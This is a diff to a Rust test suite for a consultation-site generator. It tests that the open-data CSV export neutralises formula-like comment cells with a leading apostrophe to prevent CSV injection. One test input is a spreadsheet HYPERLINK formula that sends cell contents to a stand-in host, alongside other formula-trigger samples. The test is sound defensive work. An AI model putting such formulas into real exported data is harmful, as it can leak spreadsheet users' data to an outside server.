@@ -1457,6 +1457,8 @@ fn the_site_publishes_sources_open_data_and_a_feed() {
     // comment, in the comments file's order.
     let columns: Vec<&str> = cotejo::site::COLUMNS.iter().map(|c| c.0).collect();
     let csv = std::str::from_utf8(&files["consulta.csv"]).unwrap();
+    // UTF-8 after a byte-order mark, so that Excel reads the accents.
+    let csv = csv.strip_prefix('\u{feff}').expect("a byte-order mark");
     let lines: Vec<&str> = csv.split_terminator("\r\n").collect();
     assert_eq!(lines[0], columns.join(","));
     assert_eq!(lines.len(), 1 + 3);
@@ -1664,6 +1666,84 @@ fn base_url_makes_the_feed_and_citations_absolute() {
         run.stderr
     );
     assert!(!repo.path().join("otro").exists());
+}
+
+/// Comments are anyone's text: in `consulta.csv` a cell a spreadsheet would
+/// take for a formula starts with `'` (OWASP's advice against CSV injection),
+/// as does one that starts with `'`, and the consultation page says so;
+/// `consulta.json` keeps every text exactly.
+#[test]
+fn open_data_csv_cells_are_never_formulas_and_the_json_keeps_the_text() {
+    let repo = small_repo();
+    let path = repo.path().join("policy/consulta/comentarios.yaml");
+    let yaml = std::fs::read_to_string(&path).unwrap();
+    let texts = [
+        (
+            "\"Más claridad.\"",
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")",
+        ),
+        ("\"Falta presentar el glosario.\"", "- primero\n- segundo"),
+        ("\"Definir «metadato».\"", "@SUMA(A1:A9)"),
+        ("\"Ya es clara.\"", "+52 55 5555 5555"),
+        ("\"Se añade.\"", "\tcon tabulador"),
+        ("\"Se presenta el glosario.\"", "'entre apóstrofos'"),
+    ];
+    let mut changed = yaml.clone();
+    for (old, new) in texts {
+        changed = changed.replace(old, &serde_json::to_string(new).unwrap());
+    }
+    assert_ne!(changed, yaml);
+    std::fs::write(&path, changed).unwrap();
+    repo.cotejo(&["site", "-o", "sitio"]).ok();
+    let dir = repo.path().join("sitio");
+    let bytes = std::fs::read(dir.join("consulta.csv")).unwrap();
+    assert!(
+        bytes.starts_with(b"\xEF\xBB\xBF"),
+        "a UTF-8 byte-order mark"
+    );
+    let csv = std::str::from_utf8(&bytes[3..]).unwrap();
+    // Read back as RFC 4180 by the csv crate: every cell of a comment's row.
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    let (comentario, respuesta) = (6, 8);
+    assert_eq!(
+        rows.iter()
+            .map(|r| (r[comentario].as_str(), r[respuesta].as_str()))
+            .collect::<Vec<_>>(),
+        [
+            (
+                "'=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")",
+                "'+52 55 5555 5555"
+            ),
+            ("'- primero\n- segundo", "'\tcon tabulador"),
+            ("'@SUMA(A1:A9)", "''entre apóstrofos'"),
+        ]
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+    let json: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("consulta.json")).unwrap()).unwrap();
+    let comments = json["comentarios"].as_array().unwrap();
+    assert_eq!(comments[0]["comentario"], texts[0].1);
+    assert_eq!(comments[1]["comentario"], texts[1].1);
+    assert_eq!(comments[1]["respuesta"], texts[4].1);
+    assert_eq!(comments[2]["respuesta"], texts[5].1);
+    let note = page(&dir, "consulta.html")
+        .select(&sel(".open-data details p"))
+        .map(text_of)
+        .next()
+        .expect("the CSV's note");
+    assert!(note.contains("UTF-8 con marca de orden de bytes"), "{note}");
+    assert!(note.contains("lleva delante un apóstrofo"), "{note}");
 }
 
 #[test]
